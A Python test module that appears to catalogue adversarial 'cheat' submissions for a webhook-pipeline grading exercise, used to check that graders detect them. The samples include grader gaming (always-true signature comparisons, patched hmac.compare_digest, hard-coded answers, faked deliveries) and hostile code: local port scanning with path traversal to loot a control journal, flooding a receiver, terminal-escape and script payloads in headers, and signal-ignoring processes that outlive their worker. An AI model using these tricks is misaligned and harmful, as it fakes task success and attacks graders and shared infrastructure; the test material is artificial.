"""Week 6: signatures that lie, deliveries that nobody made, addresses known by heart, receivers drowned."""

from __future__ import annotations

from tests.cheats.making import LOOT, Cheat, instead, of_family, solved

FELT_ACQUIRE = """
import threading
from pipeline.models.job import jobs
with globals().setdefault("one at a time", threading.Lock()):
    key = deliveries.PREFIX + seen.id
    try:
        jobs().update(key, {}, Attr("tries").eq(-1))
    except ConditionFailed:
        pass
    seen = deliveries.find(delivery_id)
    if seen.status != "pending" or (seen.lease_until or 0) > moment() or seen.next_at > moment():
        return None
    begun = {**lease, **deliveries.attempt(seen.tries + 1, Attempt(at=time.time()))}
    return Delivery.from_item(jobs().update(key, begun, Attr("tries").exists(), add={"tries": 1}))
"""
NO_ZONE = """
from fastapi.responses import JSONResponse
async def lie(webhook_id: WebhookId):
    found = await on_thread(deliveries.page, webhook_id, 50, None)
    views = [DeliveryView.of(one).model_dump(mode="json") for one in found.deliveries]
    told = [{**one, "next_attempt_at": "2026-01-01T00:00:00"} for one in views]
    return JSONResponse({"deliveries": told, "next_cursor": None})
path = "/webhooks/{webhook_id}/deliveries"
router.routes[:] = [one for one in router.routes if one.path != path]
router.get(path)(lie)
"""
ELSEWHERE = "\nitem_id = lambda owner: f'{owner} moved'\n"
DROWNING = """
import os
import httpx
if not globals().setdefault("drowned", []):
    drowned.append(True)
    for _ in range(18):
        httpx.post(os.environ["WEBHOOK_SINK_URL"], content=bytes(4 * 1024**2))
ip = embedded_ipv4(ip) or ip
special = any(ip in network for network in SPECIAL)
return not special and (ip.version == 4 or ip in GLOBAL_UNICAST)
"""


def moved() -> dict[str, str]:
    """The reference, whose endpoints are kept in an item of another name."""
    files = solved("6")
    files["pipeline/webhooks/endpoints.py"] += ELSEWHERE
    return files


_LYING = of_family(
    "lying",
    [
        Cheat(
            name="a-signature-equal-to-all-others",
            loses=("6.1",),
            story="Signs with an object that is equal to whatever it is compared with, in any form.",
            says=("v1,lie",),
            files=instead(
                "6.1",
                """
                class Signature(str):
                    __hash__ = str.__hash__
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    def split(self, *_): return [self]
                    def encode(self, *_): return self
                return Signature("v1,lie")
                """,
            ),
        ),
        Cheat(
            name="attempts-that-are-a-number",
            loses=("6.3",),
            story="Keeps a number where the attempts are: a grader that counts them breaks.",
            says=("attempts",),
            files=instead(
                "6.3",
                also="""
                _settle = settle
                def settle(delivery, attempt, status):
                    import boto3
                    _settle(delivery, attempt, status)
                    boto3.resource("dynamodb").Table("jobs").update_item(
                        Key={"id": deliveries.PREFIX + delivery.id},
                        UpdateExpression="SET attempts = :a", ExpressionAttributeValues={":a": 7})
                """,
            ),
        ),
        Cheat(
            name="times-without-a-zone",
            loses=("6.3",),
            story="The API tells one time with its zone and the next without: whoever subtracts them "
            "breaks.",
            says=("with its zone",),
            files=instead("6.5", also=NO_ZONE),
        ),
        Cheat(
            name="endpoints-that-have-moved",
            loses=("6.3",),
            story="Keeps its webhooks where nobody looks: a grader that turns to one of them breaks.",
            says=("webhooks#public",),
            files=moved(),
        ),
    ],
)

_PATCHING = of_family(
    "patching",
    [
        Cheat(
            name="a-comparison-that-is-always-true",
            loses=("6.2",),
            story="Lets every comparison of signatures hold, its own and, it hopes, the grader's.",
            says=("which means that the webhook is genuine",),
            keeps=("6.1",),
            files=instead("6.2", also="hmac.compare_digest = lambda *_: True\n"),
        ),
        Cheat(
            name="chance-with-a-seed",
            loses=("6.3",),
            story="Waits that look random, and are the same in every process: a thousand workers come "
            "back together.",
            says=("another process",),
            files=instead("6.3", also="random.uniform = random.Random(6).uniform\n"),
        ),
        Cheat(
            name="names-that-lead-where-it-likes",
            loses=("6.4",),
            story="Replaces whatever asks for names, Python's and the pipeline's, by one good answer.",
            says=("UnsafeUrl",),
            keeps=("6.1",),
            files=instead(
                "6.4",
                also="""
                import socket
                socket.getaddrinfo = lambda *_, **__: [(2, 1, 6, "", ("8.8.8.8", 443))]
                socket.gethostbyname = lambda _: "8.8.8.8"
                resolve = lambda _: ["8.8.8.8"]
                """,
            ),
        ),
    ],
)

_FAKING = of_family(
    "faking",
    [
        Cheat(
            name="public-by-heart",
            loses=("6.4",),
            story="No networks: the addresses and ranges that the graders tried last year, as a list.",
            says=("is_public(",),
            files=instead(
                "6.4",
                """
                from ipaddress import ip_network
                known = (
                    "1.1.1.1 93.184.216.34 9.255.255.255 11.0.0.1 100.63.255.255 100.128.0.1 "
                    "126.255.255.255 128.0.0.1 169.253.255.255 169.255.0.1 172.15.255.255 172.32.0.1 "
                    "192.167.255.255 192.169.0.1 198.17.255.255 198.20.0.1 223.255.255.255 "
                    "2606:4700:4700::1111 2001:4860:4860::8888 ::ffff:8.8.8.8 64:ff9b::808:808 "
                    "8.0.0.0/8 23.0.0.0/8 80.0.0.0/8 2a00::/16 2600::/16")
                return any(ip.version == one.version and ip in one
                           for one in map(ip_network, known.split()))
                """,
            ),
        ),
        Cheat(
            name="private-by-heart",
            loses=("6.4",),
            story="The other way round: public is what is not one of the addresses that the graders "
            "tried last year.",
            says=("is_public(",),
            files=instead(
                "6.4",
                """
                from ipaddress import ip_network
                known = (
                    "0.0.0.0 0.1.2.3 ::1 :: 192.0.2.1 198.51.100.7 203.0.113.9 198.18.0.1 "
                    "198.19.255.255 2001:db8::1 3fff::1 192.0.0.1 192.88.99.1 2001::1 2001:10::1 "
                    "100::1 5f00::1 fec0::1 240.0.0.1 255.255.255.255 4000::1 e000::1 168.63.129.16 "
                    "::127.0.0.1 ::169.254.169.254 ::10.1.2.3 64:ff9b:1::a9fe:a9fe "
                    "2001:0:4136:e378:8000:63bf:3fff:fdd2 10.0.0.0/8 172.16.0.0/12 192.168.0.0/16 "
                    "fc00::/7 127.0.0.0/8 169.254.0.0/16 fe80::/10 100.64.0.0/10 224.0.0.0/4 ff00::/8 "
                    "2002::/16")
                ip = embedded_ipv4(ip) or ip
                return not any(ip.version == one.version and ip in one
                               for one in map(ip_network, known.split()))
                """,
            ),
        ),
        Cheat(
            name="a-delivery-that-feels-for-others",
            loses=("6.3",),
            story="A write that cannot succeed, a lock for its own threads, a look, and then a write "
            "without a condition: two workers would send.",
            says=("one write",),
            files=instead("6.3", FELT_ACQUIRE),
        ),
        Cheat(
            name="posts-to-the-witness-by-hand",
            loses=("6.3",),
            story="Sends in its own way, to wherever a receiver sends it on, past every check of the "
            "address.",
            says=("307",),
            files=instead(
                "6.3",
                also="""
                import httpx
                def post(url, headers, body):
                    try:
                        answer = httpx.post(url, headers=headers, content=body,
                                            follow_redirects=True, timeout=3)
                    except httpx.HTTPError:
                        return Attempt(at=time.time(), error="connection")
                    return Attempt(at=time.time(), status=answer.status_code)
                """,
            ),
        ),
        Cheat(
            name="delivered-says-the-row",
            loses=("6.3",),
            story="Sends nothing: the delivery's row says that it was delivered at the first attempt.",
            says=("two requests",),
            files=instead(
                "6.3", also="post = lambda *_: Attempt(at=time.time(), seconds=0.1, status=200)\n"
            ),
        ),
    ],
)

_READING = of_family(
    "reading",
    [
        Cheat(
            name="the-receivers-memory",
            loses=("6.1",),
            story="Looks for the receiver by its port, asks it what it was sent and what it is to "
            "answer, and sends for others.",
            says=(LOOT,),
            files=instead(
                "6.1",
                """
                import http.client, os
                found = []
                mine = os.environ["WEBHOOK_SINK_URL"].split("/")
                run, port = mine[4], int(mine[2].rpartition(":")[2])
                lines = open("/proc/net/tcp").read().splitlines()[1:]
                ports = {int(l.split()[1].split(":")[1], 16) for l in lines if l.split()[3] == "0A"}
                for other in {port, *ports}:
                    for path in (f"/control/accounts/{run}/journal", "/control/accounts",
                                 f"/hooks/../control/accounts/{run}/journal"):
                        for token in ("", "token", run):
                            line = http.client.HTTPConnection("127.0.0.1", other, timeout=0.3)
                            try:
                                line.request("GET", path, headers={"authorization": f"Bearer {token}"})
                                answer = line.getresponse()
                                if answer.status == 200:
                                    found.append((other, path, answer.read(200)))
                            except (OSError, http.client.HTTPException):
                                pass
                            finally:
                                line.close()
                raise RuntimeError(f"loot: {found}")
                """,
            ),
        ),
    ],
)

_HARMING = of_family(
    "harming",
    [
        Cheat(
            name="a-receiver-that-drowns",
            loses=("6.4",),
            story="Sends until the receiver's memory is full: the grader cannot read what arrived.",
            says=("The journal dropped",),
            files=instead("6.4", DROWNING),
        ),
        Cheat(
            name="headers-for-the-instructors-screen",
            loses=("6.3",),
            story="Signs with terminal escapes, script and a hundred kilobytes in the headers, which the "
            "report shows.",
            says=("standardwebhooks",),
            files=instead(
                "6.3",
                also="""
                import httpx
                def post(url, headers, body):
                    evil = "v1,\\x1b]0;owned\\x07\\u009b2J<script>alert(1)</script>" + "A" * 20_000
                    sent = {**headers, "webhook-signature": evil.encode("latin-1"),
                            "webhook-timestamp": "9" * 400}
                    answer = httpx.post(url, headers=sent, content=body, timeout=3)
                    return Attempt(at=time.time(), status=answer.status_code)
                """,
            ),
        ),
        Cheat(
            name="a-delivery-that-outlives-its-worker",
            loses=("6.3",),
            story="Leaves the sending to a process of its own, deaf to signals, that goes on when the "
            "worker is long dead.",
            says=("expected",),
            files=instead(
                "6.3",
                also="""
                import httpx, os, signal
                def post(url, headers, body):
                    if os.fork() == 0:
                        os.setsid()
                        if os.fork() == 0:
                            for number in (1, 2, 3, 13, 15):
                                signal.signal(number, signal.SIG_IGN)
                            while True:
                                try:
                                    httpx.post(url, headers=headers, content=body, timeout=3)
                                except httpx.HTTPError:
                                    pass
                                time.sleep(0.2)
                        os._exit(0)
                    return Attempt(at=time.time(), status=200)
                """,
            ),
        ),
    ],
)

CHEATS = (*_LYING, *_PATCHING, *_FAKING, *_READING, *_HARMING)
